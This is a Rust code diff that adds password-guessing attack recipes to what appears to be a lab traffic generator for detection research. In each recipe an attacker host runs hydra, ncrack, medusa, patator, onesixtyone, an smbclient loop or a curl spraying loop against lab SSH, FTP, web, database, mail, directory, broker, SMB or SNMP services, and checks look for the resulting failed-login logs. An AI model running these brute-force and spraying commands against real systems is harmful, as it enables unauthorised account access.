@@ -1,7 +1,13 @@
 //! Passwords guessed by tools.
 
-use super::super::recipe::{ATTACK, Check, Ends, FAR, Recipe, Variant, WAN, on, outside, variant};
-use super::services::{DROPBEAR, SSHD, VSFTPD};
+use super::super::recipe::{
+    ATTACK, Check, Ends, FAR, Recipe, Variant, WAN, inside, on, outside, variant,
+};
+use super::databases::{MARIADB, MOSQUITTO, POSTGRES, REDIS, SLAPD};
+use super::mail::DOVECOT;
+use super::media::SMBD;
+use super::monitoring::SNMPD;
+use super::services::{DROPBEAR, NGINX, SSHD, VSFTPD};
 
 /// Word lists of a guesser: the account that is there among others, and none of its passwords.
 macro_rules! lists {
@@ -42,6 +48,23 @@ const GUESS: Recipe = Recipe {
     limit_s: 150,
     ..ATTACK
 };
+
+macro_rules! guess {
+    ($name:literal, $attack:literal, $group:literal, $about:literal, $service:ident, $says:literal, $text:literal, $least:literal, $port:literal, $shell:expr) => {
+        Recipe {
+            name: $name,
+            about: $about,
+            attack: $attack,
+            group: $group,
+            packages: &[$group],
+            services: &[$service.on("server")],
+            steps: &[on("attacker", $shell)],
+            variants: RATES_V4,
+            checks: &[Check::Packets($port, 20), Check::Says($says, $text, $least)],
+            ..GUESS
+        }
+    };
+}
 
 pub const RECIPES: &[Recipe] = &[
     Recipe {
@@ -137,7 +160,7 @@ pub const RECIPES: &[Recipe] = &[
         group: "hydra",
         packages: &["hydra"],
         roles: &[
-            super::super::recipe::inside("server", 1),
+            inside("server", 1),
             outside("attacker", 20),
         ],
         steps: &[on(
@@ -172,6 +195,121 @@ pub const RECIPES: &[Recipe] = &[
             Check::Packets("tcp/21", 150),
             Check::Says("vsftpd", "FAIL LOGIN", 15),
         ],
+        ..GUESS
+    },
+    Recipe {
+        name: "hydra_ssh_slow",
+        about: "hydra guesses one SSH password in five to eight seconds",
+        group: "hydra",
+        packages: &["hydra"],
+        steps: &[on(
+            "attacker",
+            lists!("hydra -I -t 1 -c $PAUSE -l root -P passwords ssh://$SERVER_URL || test $? = 255"),
+        )],
+        variants: &[
+            variant("alone", &[("PAUSE", "2"), ("WORDS", "20")]).over(WAN),
+            variant("busy", &[("PAUSE", "2"), ("WORDS", "20")]).over(WAN).busy(),
+        ],
+        limit_s: 240,
+        checks: &[Check::Packets("tcp/22", 200), Check::Says("sshd", "Failed password", 12)],
+        ..GUESS
+    },
+    Recipe {
+        name: "ncrack_ssh_slow",
+        about: "ncrack opens one SSH connection in four seconds",
+        group: "ncrack",
+        packages: &["ncrack"],
+        steps: &[on(
+            "attacker",
+            lists!("timeout 130 ncrack -U users -P passwords ssh://$SERVER,CL=1,cd=4s,at=1"),
+        )
+        .ends(Ends::Anyhow)],
+        variants: &[
+            variant("alone", &[("WORDS", "20")]).over(WAN),
+            variant("busy", &[("WORDS", "20")]).over(WAN).busy(),
+        ],
+        limit_s: 200,
+        checks: &[Check::Packets("tcp/22", 200), Check::Says("sshd", "Failed password", 12)],
+        ..GUESS
+    },
+    Recipe {
+        name: "ncrack_ftp",
+        about: "ncrack guesses FTP passwords",
+        attack: "ftp_bruteforce",
+        group: "ncrack",
+        packages: &["ncrack"],
+        services: &[VSFTPD.on("server")],
+        steps: &[on(
+            "attacker",
+            lists!("timeout 60 ncrack -U users -P passwords ftp://$SERVER,CL=$TASKS"),
+        )
+        .ends(Ends::Anyhow)],
+        variants: RATES_V4,
+        checks: &[Check::Packets("tcp/21", 100), Check::Says("vsftpd", "FAIL LOGIN", 10)],
+        ..GUESS
+    },
+    guess!("hydra_http_basic", "http_bruteforce", "hydra", "hydra guesses passwords of a web page", NGINX, "nginx", "\" 401 ", 40, "tcp/80",
+        lists!("hydra -I -t $TASKS -c $PAUSE -L users -P passwords http-get://$SERVER_URL/private/ || test $? = 255")),
+    guess!("medusa_http_basic", "http_bruteforce", "medusa", "medusa guesses passwords of a web page", NGINX, "nginx", "\" 401 ", 12, "tcp/80",
+        lists!("medusa -h $SERVER -U users -P passwords -M http -m DIR:/private/ -t $TASKS")),
+    guess!("patator_http_basic", "http_bruteforce", "patator", "patator guesses passwords of a web page", NGINX, "nginx", "\" 401 ", 12, "tcp/80",
+        lists!("patator http_fuzz resolve=unused.example:80:127.0.0.1 url=http://$SERVER/private/ user_pass=FILE0:FILE1 0=users 1=passwords -t $TASKS -x ignore:code=401")),
+    guess!("hydra_mysql", "mysql_bruteforce", "hydra", "hydra guesses database passwords", MARIADB, "mariadb", "Access denied", 12, "tcp/3306",
+        lists!("hydra -I -t $TASKS -c $PAUSE -L users -P passwords mysql://$SERVER_URL || test $? = 255")),
+    guess!("patator_mysql", "mysql_bruteforce", "patator", "patator guesses database passwords", MARIADB, "mariadb", "Access denied", 12, "tcp/3306",
+        lists!("patator mysql_login host=$SERVER user=FILE0 password=FILE1 0=users 1=passwords -t $TASKS")),
+    guess!("hydra_postgres", "postgres_bruteforce", "hydra", "hydra guesses database passwords", POSTGRES, "postgres", "password authentication failed", 12, "tcp/5432",
+        lists!("hydra -I -t $TASKS -c $PAUSE -L users -P passwords postgres://$SERVER_URL || test $? = 255")),
+    guess!("hydra_redis", "redis_bruteforce", "hydra", "hydra guesses the password of a cache", REDIS, "attacker", "0 valid password", 1, "tcp/6379",
+        lists!("hydra -I -t $TASKS -c $PAUSE -P passwords redis://$SERVER_URL || test $? = 255")),
+    guess!("hydra_imap", "imap_bruteforce", "hydra", "hydra guesses mail passwords", DOVECOT, "dovecot", "auth failed", 12, "tcp/143",
+        lists!("timeout 100 hydra -I -t $TASKS -c $PAUSE -L users -P passwords imap://$SERVER_URL || true")),
+    guess!("medusa_imap", "imap_bruteforce", "medusa", "medusa guesses mail passwords", DOVECOT, "dovecot", "auth failed", 12, "tcp/143",
+        lists!("timeout 100 medusa -h $SERVER -U users -P passwords -M imap -t $TASKS || true")),
+    guess!("hydra_ldap", "ldap_bruteforce", "hydra", "hydra guesses passwords of a directory", SLAPD, "slapd", "err=49", 12, "tcp/389",
+        lists!("hydra -I -t $TASKS -c $PAUSE -l cn=admin,dc=example -P passwords ldap3://$SERVER_URL || test $? = 255")),
+    guess!("ncrack_mqtt", "mqtt_bruteforce", "ncrack", "ncrack guesses passwords of a message broker", MOSQUITTO, "mosquitto", "not authorised", 12, "tcp/1883",
+        lists!("timeout 60 ncrack -U users -P passwords mqtt://$SERVER,CL=$TASKS || true")),
+    guess!("smbclient_guess", "smb_bruteforce", "smbclient", "a shell script guesses passwords of a share with smbclient", SMBD, "smbd", "NT_STATUS_WRONG_PASSWORD", 12, "tcp/445",
+        lists!("for word in $(cat passwords); do smbclient //$SERVER/share -U ops%$word -c ls; sleep $PAUSE; done; true")),
+    Recipe {
+        name: "onesixtyone_snmp",
+        about: "onesixtyone guesses SNMP communities",
+        attack: "snmp_bruteforce",
+        group: "onesixtyone",
+        packages: &["onesixtyone"],
+        services: &[SNMPD.on("server")],
+        steps: &[on(
+            "attacker",
+            lists!("onesixtyone -c passwords -w $PAUSE $SERVER"),
+        )],
+        variants: &[
+            variant("quick", &[("WORDS", "300"), ("PAUSE", "10")]).over(WAN),
+            variant("slow", &[("WORDS", "80"), ("PAUSE", "500")]).over(WAN),
+            variant("busy", &[("WORDS", "300"), ("PAUSE", "10")]).over(WAN).busy(),
+        ],
+        checks: &[Check::Packets("udp/161", 75)],
+        ..GUESS
+    },
+    Recipe {
+        name: "sprayed_http",
+        about: "twenty sources guess passwords of a web page together, one in three seconds each",
+        attack: "http_bruteforce",
+        group: "curl",
+        packages: &["curl"],
+        roles: &[inside("server", 1), outside("attacker", 20)],
+        services: &[NGINX.on("server")],
+        steps: &[on(
+            "attacker",
+            lists!("sleep 0.$((NUMBER % 10))
+            guess() { curl -s -o /dev/null -u ops:$(pick $((i + NUMBER)) $(cat passwords)) http://$SERVER_URL/private/; }
+            repeat 12 $PAUSE guess"),
+        )],
+        variants: &[
+            variant("alone", &[("PAUSE", "3"), ("WORDS", "60")]).over(WAN),
+            variant("busy", &[("PAUSE", "3"), ("WORDS", "60")]).over(WAN).busy(),
+        ],
+        checks: &[Check::Packets("tcp/80", 1_000), Check::Says("nginx", "\" 401 ", 200)],
         ..GUESS
     },
 ];
